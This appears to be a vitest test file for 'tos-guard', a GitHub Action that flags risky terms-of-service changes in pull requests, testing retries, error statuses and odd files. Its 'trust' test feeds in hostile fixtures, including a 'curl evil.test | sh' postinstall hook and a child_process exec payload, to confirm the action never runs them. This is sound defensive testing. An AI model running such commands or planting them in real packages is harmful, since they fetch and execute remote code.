import { describe, expect, it } from 'vitest'
import { useFakeGitHub } from './helpers/fake-github/lifecycle.js'
import type { FakeGitHubServer } from './helpers/fake-github/server.js'
import type { FileContent } from './helpers/fake-github/state.js'
import { pullPayload, reviewPayload, runBundledAction } from './helpers/run-action.js'

/*
 * Faults and odd files on the fake GitHub: retried where they should be, reported otherwise;
 * the status never turns green because something failed, and every finding reaches the job summary.
 */
const BEFORE = 'You grant us a license to host your posts.\n\nWe do not sell your personal data.\n'
const AFTER = 'You grant us a perpetual, sublicensable license to host your posts and to train our AI models on them.\n'

let server: FakeGitHubServer
useFakeGitHub((s) => {
  server = s
})

function pull(files: Record<string, FileContent> = { 'terms.md': AFTER }, base: Record<string, string> = { 'terms.md': BEFORE }): number {
  const gh = server.gh
  const b = gh.commit(base)
  const h = gh.commit(files, b)
  return gh.openPull({ base: b, head: h }).number
}
const run = (n: number, env: Record<string, string> = {}) => runBundledAction(server, 'pull_request_target', pullPayload(server, n), {}, env)

describe('API faults', () => {
  it('rides out a burst of 500, 502 and 503 answers', async () => {
    const n = pull()
    const statuses = [500, 502, 503]
    for (const status of statuses) server.fail({ match: (m, p) => m === 'POST' && p === '/graphql', times: 1, respond: { status, body: { message: 'unavailable' } } })
    const r = await run(n)
    expect(r.code, r.stdout).toBe(0)
    expect(server.log.filter((l) => l.graphql).slice(0, 4).map((l) => l.status)).toEqual([500, 502, 503, 200])
    expect(server.gh.status(server.gh.pull(n).headSha)?.state).toBe('failure')
  })

  it('times out a request that hangs, and retries it', async () => {
    const n = pull()
    server.fail({ match: (m, p) => m === 'GET' && p.endsWith('/files'), times: 1, respond: 'hang' })
    const r = await run(n, { TOS_GUARD_TIMEOUT_MS: '400' })
    expect(r.code, r.stdout).toBe(0)
    expect(server.gh.reviews).toHaveLength(1)
  })

  it('never leaves a green status standing when a re-evaluation fails', async () => {
    const gh = server.gh
    const n = pull()
    await run(n)
    gh.permissions.set('max', 'write')
    gh.review(n, 'max', 'APPROVED')
    await runBundledAction(server, 'pull_request_review', reviewPayload(server, n, 'max', 'approved'))
    expect(gh.status(gh.pull(n).headSha)?.state).toBe('success')
    // The next evaluation cannot read the reviews: the green must not stay.
    server.fail({ match: (m, p) => m === 'GET' && p.endsWith('/reviews'), times: 20, respond: { status: 500, body: { message: 'Server Error' } } })
    const r = await runBundledAction(server, 'pull_request_review', reviewPayload(server, n, 'max', 'approved'))
    expect(r.code).toBe(1)
    expect(gh.status(gh.pull(n).headSha)).toMatchObject({ state: 'error' })
    expect(gh.status(gh.pull(n).headSha)?.description).toMatch(/^tos-guard could not finish: HTTP 500/)
  })

  it('keeps every finding in the job summary when writing to GitHub fails', async () => {
    const n = pull()
    server.fail({ match: (m, p) => m === 'POST' && p.endsWith('/comments'), times: 20, respond: { status: 502, body: { message: 'Bad Gateway' } } })
    const r = await run(n)
    expect(r.code).toBe(1)
    expect(r.summary).toMatch(/AI training|New AI-training purpose/)
    expect(r.summary).toMatch(/Broader licence over user content/)
    expect(server.gh.status(server.gh.pull(n).headSha)?.state).toBe('error')
  })

  it('keeps every finding in the job summary when a read after the analysis fails (issue 11)', async () => {
    const n = pull()
    server.fail({ match: (m, p) => m === 'GET' && p.endsWith(`/issues/${n}/comments`), times: 20, respond: { status: 502, body: { message: 'Bad Gateway' } } })
    const r = await run(n)
    expect(r.code).toBe(1)
    expect(r.summary).toMatch(/could not finish the review/)
    expect(r.summary).toMatch(/Broader licence over user content/)
    expect(server.gh.status(server.gh.pull(n).headSha)?.state).toBe('error')
  })

  it('falls back to the review body when GitHub refuses the anchored comments', async () => {
    const n = pull()
    server.fail({ match: (m, p, body) => m === 'POST' && p.endsWith('/reviews') && Array.isArray((body as { comments?: unknown[] }).comments) && ((body as { comments: unknown[] }).comments.length > 0), times: 1, respond: { status: 422, body: { message: 'Unprocessable Entity', errors: ['Line could not be resolved'] } } })
    const r = await run(n)
    expect(r.code, r.stdout).toBe(0)
    expect(server.gh.reviews).toHaveLength(1)
    expect(server.gh.reviews[0]?.body).toMatch(/could not be anchored/)
    expect(server.gh.reviews[0]?.body.match(/tos-guard:finding id=/g)?.length).toBeGreaterThanOrEqual(2)
  })

  it('reports a file that vanished between listing and reading, with an error status', async () => {
    const n = pull()
    server.gh.vanished.add('terms.md')
    const r = await run(n)
    expect(r.code).toBe(1)
    expect(r.stdout).toMatch(/::error::tos-guard: tos-guard could not read terms\.md; see the summary/)
    expect(server.gh.status(server.gh.pull(n).headSha)).toMatchObject({ state: 'error', description: 'tos-guard could not read 1 terms document(s); see the summary' })
    expect(server.gh.ownComments(n)[0]?.body).toMatch(/\*\*terms\.md\*\*: the new version could not be read/)
  })

  it('names the permission a refused call needs', async () => {
    const n = pull()
    server.fail({ match: (m, p) => m === 'GET' && p.endsWith('/files'), times: 1, respond: { status: 403, body: { message: 'Resource not accessible by integration' } } })
    const r = await run(n)
    expect(r.code).toBe(1)
    expect(r.stdout).toMatch(/::error::tos-guard failed: HTTP 403: Resource not accessible by integration \(GET \/repos\/acme\/terms\/pulls\/\d+\/files\?per_page=100\); the token may lack pull-requests: read/)
  })
})

describe('odd files in a pull request', () => {
  it('deleted, renamed and added documents; binary, symbolic-link and submodule entries each get a finding or a note', async () => {
    const gh = server.gh
    const base = gh.commit({ 'privacy.md': 'We do not sell your personal data.\n', 'old-name.md': BEFORE, 'logo.md': 'Logo.\n' })
    const head = gh.commitRemoving(
      base,
      ['privacy.md', 'old-name.md'],
      {
        'new-name.md': `${BEFORE}\nYou waive your moral rights in your posts.\n`,
        'added.md': 'We may use your messages to train our AI models.\n',
        'logo.md': { binary: new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0]) },
        'current.md': 'legal/terms-2026.md',
        'vendor.md': { submodule: 'c'.repeat(40) },
      },
    )
    const n = gh.openPull({ base, head, renames: { 'new-name.md': 'old-name.md' } }).number
    const r = await run(n)
    expect(r.code).toBe(1)
    const summary = gh.ownComments(n)[0]?.body ?? ''
    expect(summary).toMatch(/\| privacy\.md \| \[old 1\]/)
    expect(summary).toMatch(/\| new-name\.md \|/)
    expect(summary).toMatch(/\| added\.md \|/)
    expect(summary).toMatch(/\*\*logo\.md\*\*: the new version cannot be analysed: binary file/)
    expect(summary).toMatch(/\*\*current\.md\*\*: this looks like a symbolic link to legal\/terms-2026\.md/)
    expect(summary).toMatch(/\*\*vendor\.md\*\*: the new version is a submodule, not a file/)
    expect(gh.status(gh.pull(n).headSha)?.state).toBe('error')
  })
})

describe('trust', () => {
  it('never starts a process, whatever the pull request contains', async () => {
    const { mkdtempSync, readFileSync, existsSync } = await import('node:fs')
    const { tmpdir } = await import('node:os')
    const { join } = await import('node:path')
    const dir = mkdtempSync(join(tmpdir(), 'tos-guard-exec-'))
    const log = join(dir, 'exec.log')
    const n = pull({
      'terms.md': `${AFTER}\n<script>require('child_process').exec('touch /tmp/pwned')</script>\n`,
      'package.json': '{ "scripts": { "postinstall": "curl evil.test | sh" } }\n',
      '.github/workflows/evil.yml': 'on: push\njobs: { x: { runs-on: ubuntu-latest, steps: [{ run: "echo pwned" }] } }\n',
    })
    const guard = join(import.meta.dirname, 'fixtures', 'guards', 'no-exec.cjs')
    const r = await run(n, { NODE_OPTIONS: `--require ${guard}`, TOS_GUARD_EXEC_LOG: log })
    expect(r.code, r.stdout).toBe(0)
    expect(existsSync(log) ? readFileSync(log, 'utf8') : '').toBe('')
    // The scripts were never fetched; the workflow only as data, to see whether it runs
    // tos-guard (issue 11 item 7) — it does not, so it is no finding.
    const reads = server.log.filter((l) => l.graphql).map((l) => JSON.stringify(l.body))
    expect(reads.some((b) => b.includes('package.json'))).toBe(false)
    expect(server.gh.ownComments(n)[0]?.body).not.toMatch(/evil\.yml/)
  })
})
